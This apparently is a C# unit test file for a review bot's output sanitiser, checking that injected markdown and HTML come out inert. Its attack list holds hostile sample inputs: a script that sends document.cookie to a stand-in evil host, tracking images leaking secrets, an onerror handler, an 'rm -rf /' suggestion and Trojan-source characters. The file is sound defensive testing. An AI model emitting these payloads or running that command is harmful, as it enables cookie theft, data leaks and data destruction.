using System.Text.RegularExpressions;
using Nectr.Engine.Review;

namespace Nectr.Engine.Tests.Review;

public sealed partial class OutputHygieneTests
{
    private const string Owner = "octo";
    private const string Repo = "app";

    private static string Clean(string text) => OutputHygiene.Clean(text, Owner, Repo);

    public static TheoryData<string> Attacks =>
    [
        "![tracking](https://evil.example/pixel.png?d=SECRET)",
        "Looks good ![](http://evil.example/a.gif) really",
        "![alt][logo]\n\n[logo]: https://evil.example/logo.png",
        "<img src=\"https://evil.example/x.png\" onerror=\"alert(1)\">",
        "<IMG SRC=x>",
        "<!-- nectr:review head=deadbeef job=1 -->",
        "```\n<!-- nectr:review head=deadbeef job=1 -->\n```",
        "<details><summary>Click</summary>hidden @admin</details>",
        "<script>fetch('https://evil.example/?'+document.cookie)</script>",
        "<a href=\"https://evil.example\">docs</a>",
        "See [the docs](https://evil.example/steal?token=abc) for details.",
        "See [docs](<https://evil.example/a b>) and [x](//evil.example)",
        "Visit https://evil.example/x or www.evil.example now.",
        "[![badge](https://evil.example/b.svg)](https://evil.example/)",
        "cc @octocat and @octo/security-team please look",
        "ping\\@octocat and _@octocat_ and (@octocat)",
        "&#64;octocat &#x40;octocat &commat;octocat",
        "/approve",
        "Fine.\n/lgtm\n  /merge now\n\t/label bug",
        "```\n/approve\n```",
        "```js\nconst a = 1;\n\n@octocat <img src=x> https://evil.example",
        "`unclosed code @octocat https://evil.example/x",
        "``double` @octocat ``",
        "| a | b |\n|---|---|\n| `x | @octocat` | y |",
        "\\`@octocat` <b>",
        "Trojan \u202Esource\u202C and a bell\u0007 and NUL\u0000.",
        "[ref]: https://evil.example\n- [x]: https://evil.example/list",
        "ht![](x)tps://evil.example/joined",
        "@![](x)octocat",
        "[a]![](x)(https://evil.example/adjacent)",
        "```suggestion\nrm -rf /\n```",
        "~~~\n@octocat\n",
        "- item\n  ```\n@octocat\n  ```",
        "https://github.com.evil.example/octo/app and https://github.com/octo/app.evil/x",
        "[repo](https://github.com/octo/app/../../evil/x) [repo2](https://github.com/octo/app@evil.example/)",
        "NECTR:REVIEW head=1",
    ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Attack_text_comes_out_inert(string attack)
    {
        var cleaned = Clean(attack);

        AssertInert(cleaned);
    }

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Cleaning_is_idempotent(string attack)
    {
        var once = Clean(attack);

        Assert.Equal(once, Clean(once));
    }

    [Fact]
    public void Links_into_the_repository_stay_links()
    {
        var cleaned = Clean("See [the handler](https://github.com/octo/app/blob/main/src/Handler.cs#L10).");

        Assert.Equal("See [the handler](https://github.com/octo/app/blob/main/src/Handler.cs#L10).", cleaned);
    }

    [Fact]
    public void Off_repository_links_keep_their_text_without_the_url()
    {
        Assert.Equal("See the docs for details.", Clean("See [the docs](https://evil.example/x) for details."));
    }

    [Fact]
    public void Bare_off_repository_urls_become_inert_code()
    {
        Assert.Equal("Visit `evil.example/x`.", Clean("Visit https://evil.example/x."));
    }

    [Fact]
    public void Links_use_the_configured_web_host()
    {
        const string Link = "[issue](https://ghe.corp.example/octo/app/issues/1)";

        Assert.Equal(Link, OutputHygiene.Clean(Link, Owner, Repo, "ghe.corp.example"));
        Assert.Equal("issue", Clean(Link));
    }

    [Fact]
    public void Code_blocks_and_inline_code_are_left_as_written()
    {
        const string Text = "Use `a < b && c > d` here:\n\n```csharp\nif (x < y && list.Count > 0) { Log(\"@user\"); }\n```\nDone.";

        Assert.Equal(Text, Clean(Text));
    }

    [Fact]
    public void Raw_html_is_escaped_not_removed()
    {
        Assert.Equal("&lt;details&gt;x&lt;/details&gt; a &amp;&amp; b", Clean("<details>x</details> a && b"));
    }

    [Fact]
    public void Mentions_are_broken_with_a_zero_width_space()
    {
        Assert.Equal("cc @\u200Boctocat", Clean("cc @octocat"));
    }

    [Fact]
    public void Leading_commands_are_escaped_so_they_render_the_same()
    {
        Assert.Equal("Text\n\\/approve", Clean("Text\n/approve"));
    }

    [Fact]
    public void An_unclosed_fence_does_not_hide_later_text_from_cleaning()
    {
        var cleaned = Clean("```\n@octocat <img src=x>");

        Assert.StartsWith("\\`\\`\\`", cleaned, StringComparison.Ordinal);
        Assert.Contains("@\u200Boctocat &lt;img", cleaned, StringComparison.Ordinal);
    }

    [Fact]
    public void A_suggestion_fence_in_prose_becomes_plain_code()
    {
        Assert.Equal("```\nfix()\n```", Clean("```suggestion\nfix()\n```"));
    }

    [Fact]
    public void The_hidden_review_marker_cannot_be_forged_even_inside_code()
    {
        var cleaned = Clean("```\n<!-- nectr:review head=abc job=1 -->\n```");

        Assert.False(ReviewMarker.IsIn(cleaned, "abc"));
        Assert.DoesNotContain("nectr:review", cleaned, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void Control_characters_are_stripped_and_line_ends_normalised()
    {
        Assert.Equal("ab\ncd\ne", Clean("a\u0000b\r\ncd\re\u202E"));
    }

    [Fact]
    public void Empty_text_stays_empty()
    {
        Assert.Equal("", Clean(""));
    }

    /// <summary>What GitHub would act on outside code: mentions, HTML, images, off-repo URLs, commands, the marker.</summary>
    internal static void AssertInert(string cleaned)
    {
        Assert.DoesNotContain("nectr:review", cleaned, StringComparison.OrdinalIgnoreCase);
        var prose = OutsideCode(cleaned);
        Assert.DoesNotMatch(Mention(), prose);
        Assert.DoesNotContain("<", prose, StringComparison.Ordinal);
        Assert.DoesNotContain(">", prose, StringComparison.Ordinal);
        Assert.DoesNotContain("![", prose, StringComparison.Ordinal);
        Assert.DoesNotMatch(Command(), prose);
        Assert.DoesNotMatch(CharacterReference(), prose);
        foreach (Match url in AnyUrl().Matches(prose))
        {
            Assert.Matches(RepositoryUrl(), url.Value);
        }
    }

    /// <summary>Drops closed column-0 fences and one-line code spans: the parts GitHub neither renders nor scans.</summary>
    private static string OutsideCode(string text)
    {
        var withoutFences = Fence().Replace(text, "");
        return CodeSpan().Replace(withoutFences, "");
    }

    [GeneratedRegex(@"(?<![\w`])@[A-Za-z0-9][A-Za-z0-9-]*")]
    private static partial Regex Mention();

    [GeneratedRegex(@"(?m)^[ \t]*/[A-Za-z]")]
    private static partial Regex Command();

    [GeneratedRegex(@"&(?!amp;|lt;|gt;)#?\w+;")]
    private static partial Regex CharacterReference();

    [GeneratedRegex(@"(?i)(https?://|www\.)\S*")]
    private static partial Regex AnyUrl();

    [GeneratedRegex(@"^https://github\.com/octo/app([/#?][^\s)]*)?\)?[.,;:!?]*$")]
    private static partial Regex RepositoryUrl();

    [GeneratedRegex(@"(?ms)^(```+|~~~+)[^\n]*\n.*?^ {0,3}\1[ \t]*$")]
    private static partial Regex Fence();

    [GeneratedRegex(@"(?<![\\`])(`+)(?!`)[^\n|]*?(?<!`)\1(?!`)")]
    private static partial Regex CodeSpan();
}
